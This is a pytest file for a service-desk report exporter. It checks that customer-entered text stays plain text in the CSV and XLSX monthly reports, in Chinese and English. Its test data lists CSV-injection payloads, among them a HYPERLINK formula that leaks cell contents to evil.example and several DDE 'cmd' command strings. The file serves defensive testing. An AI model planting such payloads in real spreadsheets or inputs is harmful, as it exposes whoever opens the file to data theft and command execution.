"""What customers typed never becomes a formula in the monthly report's files: text that a spreadsheet
would run is written as text, in the CSV and the XLSX and in both languages."""

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from chalicelib.domain.reports import ReportMonth
from chalicelib.domain.ticket import Channel, Kind, Product, Reporter, open_ticket
from chalicelib.i18n import LANGUAGES, t
from tests.service.test_reports import World

# Tickets are written straight into the store here (history for a month's report), not armed in the
# sweep's due index by the services: the due-index check after each scenario does not apply.
TICKETS_GO_THROUGH_THE_SERVICES = False

# Payloads from the CSV-injection literature: each starts a formula, a DDE call or a command.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-1",
    "@",
)
MARCH = ReportMonth.parse("2026-03")


def _stored_files() -> tuple[World, dict[str, str]]:
    world = World()
    names = {}
    for i, payload in enumerate(FORMULAS, start=1):
        number = f"SD-2026-{i:06d}"
        ticket, event = open_ticket(
            number=number,
            reporter=Reporter(customer_name=payload, phone="+8613800138000", province="CN-JS", address="星湖街"),
            product=Product(model=payload), description=payload, kind=Kind.FAULT, channel=Channel.WEB,
            at=datetime(2026, 3, 2, 2, i, tzinfo=UTC), actor="web",
        )
        world.tickets.create(ticket, event, f"token-{number}", [])
        names[number] = payload
    world.service.show(MARCH)
    return world, names


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_customers_formula_is_plain_text_in_the_csv(lang):
    world, names = _stored_files()
    data = world.archive.objects[f"reports/2026-03/{lang}/service-report-2026-03.csv"]
    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    customer, model = header.index(t(lang, "report.col.customer")), header.index(t(lang, "report.col.model"))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        payload = names[row[0]]
        assert row[customer] == row[model] == "'" + payload
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_customers_formula_is_a_string_cell_in_the_xlsx(lang):
    world, names = _stored_files()
    data = world.archive.objects[f"reports/2026-03/{lang}/service-report-2026-03.xlsx"]
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in book.read(name) or b"<f " in book.read(name) for name in sheets)
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    rows = workbook[t(lang, "report.sheet.rows")]
    header, *lines = [[cell.value for cell in row] for row in rows.iter_rows()]
    customer, model = header.index(t(lang, "report.col.customer")), header.index(t(lang, "report.col.model"))
    assert len(lines) == len(FORMULAS)
    for line in lines:
        typed = names[line[0]].replace("\r", "\n")  # XML reads every line end back as \n
        assert line[customer] == line[model] == typed, "the text as typed, stored as a string"


@pytest.mark.parametrize(("lang", "jiangsu"), [("zh-CN", "江苏"), ("en", "Jiangsu")])
def test_codes_are_words_in_the_files_language(lang, jiangsu):
    """A manager reads provinces, kinds and states as words, never as CN-JS, fault or new."""
    world, _ = _stored_files()
    data = world.archive.objects[f"reports/2026-03/{lang}/service-report-2026-03.csv"]
    header, first, *_ = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    kind, province, status = (first[header.index(t(lang, f"report.col.{c}"))] for c in ("kind", "province", "status"))
    assert (kind, status) == (t(lang, "kind.fault"), t(lang, "status.new"))
    assert jiangsu in province
    book = load_workbook(io.BytesIO(world.archive.objects[f"reports/2026-03/{lang}/service-report-2026-03.xlsx"]))
    sheet = book[t(lang, "report.sheet.rows")]
    values = [cell.value for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert "CN-JS" not in values and "fault" not in values and "new" not in values


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_summary_sheet_breaks_the_month_down_as_the_email_does(lang):
    """By kind, by priority, per rule and the survey, each under its heading, in the file's language."""
    world, _ = _stored_files()
    book = load_workbook(io.BytesIO(world.archive.objects[f"reports/2026-03/{lang}/service-report-2026-03.xlsx"]))
    lines = [[cell.value for cell in row] for row in book[t(lang, "report.sheet.summary")].iter_rows()]
    lines = [[value for value in line if value is not None] for line in lines]

    def under(heading: str) -> list[list[object]]:
        start = lines.index([heading]) + 1
        end = next((i for i in range(start, len(lines)) if not lines[i]), len(lines))
        return lines[start:end]

    kinds, priorities = dict(under(t(lang, "report.by_kind"))), dict(under(t(lang, "report.by_priority")))
    assert kinds[t(lang, "kind.fault")] == len(FORMULAS) and set(kinds.values()) == {len(FORMULAS), 0}
    assert priorities[t(lang, "priority.none")] == len(FORMULAS) and t(lang, "priority.A") in priorities
    rules = under(t(lang, "report.section.deadlines"))
    assert rules[0] == [t(lang, k) for k in ("report.rule", "report.met", "report.met_late", "report.missed",
                                             "report.pending", "report.met_share")]
    assert all(isinstance(line[0], str) and "_" not in line[0] for line in rules[1:]), "rules named in words"
    assert under(t(lang, "report.section.satisfaction")) == [[t(lang, "report.no_data")]]
